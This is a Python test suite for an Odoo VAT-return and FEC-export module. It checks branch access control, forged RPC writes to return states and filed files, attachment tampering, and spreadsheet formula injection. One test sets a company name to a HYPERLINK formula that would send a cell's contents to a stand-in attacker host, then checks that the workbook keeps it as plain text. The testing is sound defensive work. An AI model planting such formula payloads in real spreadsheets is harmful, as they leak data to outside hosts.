# Copyright 2026 Fincycle
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Attacks on the FEC export: a branch the accountant has no access to is not exported
through its parent company."""

import base64
import io
import zipfile
from datetime import date

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from .common import VatReturnCommon


@tagged("post_install", "-at_install")
class TestFecAttacks(VatReturnCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company = cls._company("Atelier Lyon SAS", "FR", "fr", vat="FR44732829320")
        cls.branch = cls.env["res.company"].create(
            {
                "name": "Atelier Lyon - Agence Nord",
                "parent_id": cls.company.id,
                "country_id": cls.company.country_id.id,
            }
        )
        cls.env.user.company_ids |= cls.branch
        cls.tax_20 = cls._tax(cls.company, "tva_normale")
        cls.secret = cls._partner("Client Secret Branche", "FR")
        journal = cls.env["account.journal"].search(
            [("company_id", "=", cls.company.id), ("type", "=", "general")], limit=1
        )
        income = cls.env["account.account"].search(
            [("company_ids", "in", cls.company.id), ("account_type", "=", "income")], limit=1
        )
        bank = cls.env["account.account"].search(
            [("company_ids", "in", cls.company.id), ("account_type", "=", "asset_current")],
            limit=1,
        )
        entry = cls.env["account.move"].create(
            {
                "move_type": "entry",
                "company_id": cls.branch.id,
                "journal_id": journal.id,
                "date": date(2025, 6, 3),
                "line_ids": [
                    Command.create(
                        {"account_id": bank.id, "debit": 700, "partner_id": cls.secret.id}
                    ),
                    Command.create(
                        {"account_id": income.id, "credit": 700, "partner_id": cls.secret.id}
                    ),
                ],
            }
        )
        entry.action_post()
        assert entry.line_ids.company_id == cls.branch
        # an accountant of the parent company only, not of its branch
        cls.accountant = cls._user("fec_parent_only", "account.group_account_manager", cls.company)

    def _wizard(self, user):
        return (
            self.env["account.fec.export"]
            .with_user(user)
            .with_company(self.company)
            .create(
                {
                    "company_id": self.company.id,
                    "date_from": date(2025, 1, 1),
                    "date_to": date(2025, 12, 31),
                }
            )
        )

    def test_branch_not_exported_without_access(self):
        wizard = self._wizard(self.accountant)
        with self.assertRaises(AccessError):
            wizard.action_export()
        self.assertFalse(wizard.fec_file)

    def test_branch_exported_with_access(self):
        self.accountant.company_ids |= self.branch
        wizard = self._wizard(self.accountant)
        wizard.action_export()
        self.assertIn(b"MISC/2025/06/0001|20250603", base64.b64decode(wizard.fec_file))

    def _vat_return(self, user):
        return (
            self.env["account.vat.return"]
            .with_user(user)
            .with_company(self.company)
            .create(
                {
                    "company_id": self.company.id,
                    "country_code": "FR",
                    "date_from": date(2025, 6, 1),
                    "date_to": date(2025, 6, 30),
                }
            )
        )

    def test_vat_return_branch_not_computed_without_access(self):
        vat_return = self._vat_return(self.accountant)
        with self.assertRaises(AccessError):
            vat_return.action_compute()

    def test_vat_return_branch_computed_with_access(self):
        self.accountant.company_ids |= self.branch
        vat_return = self._vat_return(self.accountant)
        vat_return.action_compute()
        self.assertTrue(vat_return.line_ids)


@tagged("post_install", "-at_install")
class TestVatReturnStateAttacks(VatReturnCommon):
    """The state of a return moves through its buttons only (the checks, the tax lock date);
    a filed return's boxes are what was filed."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company = cls._company("Atelier Rennes SAS", "FR", "fr", vat="FR44732829320")
        cls.manager = cls._user("vat_rpc_manager", "account.group_account_manager", cls.company)

    def _vat_return(self, **values):
        return (
            self.env["account.vat.return"]
            .with_user(self.manager)
            .with_company(self.company)
            .create(
                {
                    "company_id": self.company.id,
                    "country_code": "FR",
                    "date_from": date(2025, 6, 1),
                    "date_to": date(2025, 6, 30),
                }
                | values
            )
        )

    def test_state_not_written_by_rpc(self):
        vat_return = self._vat_return()
        for state in ("checked", "filed"):
            with self.subTest(state=state), self.assertRaises(UserError):
                vat_return.write({"state": state})
        self.assertEqual(vat_return.state, "draft")
        self.assertFalse(self.company.tax_lock_date)

    def test_not_created_filed(self):
        with self.assertRaises(UserError):
            self._vat_return(state="filed")

    def test_filed_boxes_not_changed(self):
        vat_return = self._vat_return()
        vat_return.action_compute()
        line = vat_return.line_ids[:1]
        self.assertTrue(line)
        vat_return.sudo().write({"state": "filed"})
        Line = self.env["account.vat.return.line"].with_user(self.manager)
        with self.assertRaises(UserError):
            line.with_user(self.manager).write({"amount": 123456.0})
        with self.assertRaises(UserError):
            Line.create({"return_id": vat_return.id, "box": "27", "amount": 99999.0})
        with self.assertRaises(UserError):
            line.with_user(self.manager).unlink()
        self.assertNotEqual(line.amount, 123456.0)

    def test_draft_buttons_still_work(self):
        vat_return = self._vat_return()
        vat_return.action_check()
        self.assertIn(vat_return.state, ("draft", "checked"))

    def test_xlsx_text_never_becomes_a_formula(self):
        """A name starting with '=' stays text in the workbook (no formula injection)."""
        self.company.sudo().name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        vat_return = self._vat_return()
        vat_return.action_compute()
        content = vat_return.with_user(self.manager)._xlsx_content()
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
            xml = b"".join(book.read(n) for n in sheets)
        self.assertNotIn(b"<f>", xml)
        self.assertNotIn(b"HYPERLINK(", xml)

    def test_closing_entry_not_linked_by_rpc(self):
        """A move linked as closing entry is left out of the VAT account check: only the
        Closing Entry button links one."""
        vat_return = self._vat_return()
        move = self.env["account.move"].search([("company_id", "=", self.company.id)], limit=1)
        if not move:
            move = self.env["account.move"].create(
                {"move_type": "entry", "company_id": self.company.id, "date": date(2025, 6, 5)}
            )
        with self.assertRaises(UserError):
            vat_return.write({"closing_move_id": move.id})
        with self.assertRaises(UserError):
            self._vat_return(
                closing_move_id=move.id, date_from=date(2025, 7, 1), date_to=date(2025, 7, 31)
            )
        self.assertFalse(vat_return.closing_move_id)


@tagged("post_install", "-at_install")
class TestVatReturnFileAttacks(VatReturnCommon):
    """The eCH-0217 and CA3 files are built by their buttons on a checked return only; nobody
    writes them by RPC (neither on the return nor on its attachments), and a filed return keeps
    the file it was filed with."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company = cls._company("Seeblick Files AG", "CH", "ch", vat="CHE-100.000.006 MWST")
        cls._move(
            cls.company,
            "out_invoice",
            date(2025, 2, 1),
            [(1000, cls._tax(cls.company, "vat_sale_81"))],
            cls._partner("Kunde AG", "CH"),
        )
        cls.manager = cls._user("vat_file_manager", "account.group_account_manager", cls.company)
        cls.fr_company = cls._company("Atelier Files SAS", "FR", "fr", vat="FR44732829320")
        cls.fr_manager = cls._user(
            "vat_file_fr_manager", "account.group_account_manager", cls.fr_company
        )

    def _return(self, user, company, country, **values):
        return (
            self.env["account.vat.return"]
            .with_user(user)
            .create(
                {
                    "company_id": company.id,
                    "country_code": country,
                    "date_from": date(2025, 1, 1),
                    "date_to": date(2025, 3, 31),
                }
                | values
            )
        )

    def test_files_not_written_by_rpc(self):
        forged = base64.b64encode(b"<forged/>")
        ch = self._return(self.manager, self.company, "CH")
        ch.action_check()
        self.assertEqual(ch.state, "checked", ch.check_ids.mapped("message"))
        ch.action_build_ech0217()
        filed_xml = ch.ech_file
        self.assertTrue(filed_xml)
        for values in ({"ech_file": forged}, {"ech_messages": "Valid"}):
            with self.subTest(values=values), self.assertRaises(AccessError):
                ch.write(values)  # checked: the file field itself is not writable
        ch.action_file()
        self.assertEqual(ch.state, "filed")
        for values in (
            {"ech_file": forged},
            {"ech_filename": "other.xml"},
            {"ech_messages": "Valid"},
            {"ca3_file": forged},
            {"ca3_filename": "x.csv"},
        ):
            # refused: a filed return cannot be changed, and nobody writes the files
            with self.subTest(values=values), self.assertRaises(UserError):  # AccessError is one
                ch.write(values)
        # nor through the attachment that stores the file
        attachment = (
            self.env["ir.attachment"]
            .with_user(self.manager)
            .search(
                [
                    ("res_model", "=", "account.vat.return"),
                    ("res_id", "=", ch.id),
                    ("res_field", "=", "ech_file"),
                ]
            )
        )
        self.assertTrue(attachment)
        with self.assertRaises(AccessError):
            attachment.write({"datas": forged})
        with self.assertRaises(AccessError):
            attachment.unlink()
        with self.assertRaises(AccessError):
            self.env["ir.attachment"].with_user(self.manager).create(
                {
                    "name": "forged.xml",
                    "res_model": "account.vat.return",
                    "res_id": ch.id,
                    "res_field": "ca3_file",
                    "datas": forged,
                }
            )
        # the button of a filed return offers the file it was filed with
        action = ch.action_build_ech0217()
        self.assertEqual(action["type"], "ir.actions.act_url")
        self.assertEqual(ch.ech_file, filed_xml)
        self.assertEqual(base64.b64decode(ch.ech_file), base64.b64decode(filed_xml))

    def test_files_not_written_on_draft_nor_at_creation(self):
        forged = base64.b64encode(b"box;label\r\n")
        fr = self._return(self.fr_manager, self.fr_company, "FR")
        with self.assertRaises(AccessError):
            fr.write({"ca3_file": forged, "ca3_filename": "CA3.csv"})
        with self.assertRaises(AccessError):
            self._return(
                self.fr_manager,
                self.fr_company,
                "FR",
                date_from=date(2025, 4, 1),
                date_to=date(2025, 4, 30),
                ca3_file=forged,
            )
        # a draft builds nothing; a filed return without a file gets none afterwards
        with self.assertRaises(UserError):
            fr.action_build_ca3()
        fr.action_check()
        self.assertEqual(fr.state, "checked", fr.check_ids.mapped("message"))
        fr.action_file()
        with self.assertRaises(UserError):
            fr.action_build_ca3()
        self.assertFalse(fr.ca3_file)
